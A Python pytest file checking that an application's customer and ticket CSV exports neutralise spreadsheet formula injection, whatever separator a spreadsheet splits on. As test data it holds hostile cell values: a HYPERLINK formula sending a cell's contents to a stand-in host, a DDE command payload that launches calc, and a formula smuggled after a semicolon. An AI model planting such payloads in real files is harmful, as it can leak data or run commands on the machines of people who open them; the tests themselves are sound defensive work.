"""The CSV exports for spreadsheets: every text cell a spreadsheet would run as a formula is
marked as text (full-width ＝, leading spaces, a trigger after ``;``), whatever separator the
spreadsheet splits the file on; ids, counts and timestamps are written as they are."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from office import Office

HOSTILE_NAME = '＝HYPERLINK("http://evil.example/?"&A2)'
HOSTILE_TAG = "vip;=1+2"
HOSTILE_SUBJECT = "=cmd|' /C calc'!A0; -1"


def _rows(text: str, separator: str = ",") -> list[list[str]]:
    return list(
        csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator)
    )


def _would_evaluate(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` for a formula: after spaces and quotes, one of
    = + - @ in any width, or a control or invisible character (tab, CR, LF, U+200B...)."""
    lead = cell.lstrip(' "\u00a0\u3000')
    if not lead:
        return False
    if unicodedata.category(lead[0])[0] == "C":
        return True
    return unicodedata.normalize("NFKC", lead[0])[:1] in "=+-@"


def _no_cell_starts_a_formula(text: str) -> None:
    # A spreadsheet may split on ";" (where "," is the decimal mark), a tab or "|", and then
    # honours only the first cell's quotes on a line: no piece may start a formula.
    for separator in (",", ";", "\t", "|"):
        starts = [cell for row in _rows(text, separator) for cell in row if _would_evaluate(cell)]
        assert starts == [], separator


@pytest.fixture
def hostile(office: Office) -> Office:
    client = office.client("admin")
    created = client.post(
        "/api/customers",
        json={
            "name": HOSTILE_NAME,
            "external_id": "-42",
            "contacts": [
                {"type": "phone", "value": "+86 138 0013 8000"},
                {"type": "phone", "value": "+86 139 0013 9000"},
            ],
            "tags": [HOSTILE_TAG],
        },
    )
    assert created.status_code == 201, created.text
    office.ticket(subject=HOSTILE_SUBJECT, customer_id=created.json()["id"])
    return office


def test_the_customer_export_marks_formulas_as_text(hostile: Office) -> None:
    response = hostile.client("admin").get("/api/customers/export.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith('\ufeff"id","external_id",')  # every cell quoted
    _no_cell_starts_a_formula(text)
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    row = next(r for r in rows if r["name"].endswith('HYPERLINK("http://evil.example/?"&A2)'))
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["tags"] == "vip;'=1+2"
    assert row["phone"].startswith("'+86") and ";'+86" in row["phone"]
    assert row["external_id"] == "'-42"  # a text column: an id stays text
    assert row["id"].isdigit() and row["open_tickets"] == "1"  # numbers as they are
    assert row["created_at"].endswith("+00:00")


def test_the_ticket_export_marks_formulas_as_text(hostile: Office) -> None:
    response = hostile.client("manager").get("/api/tickets/export.csv")
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith('attachment; filename="tickets.csv"')
    text = response.content.decode("utf-8")
    _no_cell_starts_a_formula(text)
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    (row,) = [r for r in rows if "calc" in r["subject"]]
    assert row["subject"] == "'=cmd|' /C calc'!A0;' -1"
    assert row["status"] == "new" and row["customer_id"].isdigit()
    assert row["assignee_id"] == "" and row["sla_kept"] == ""
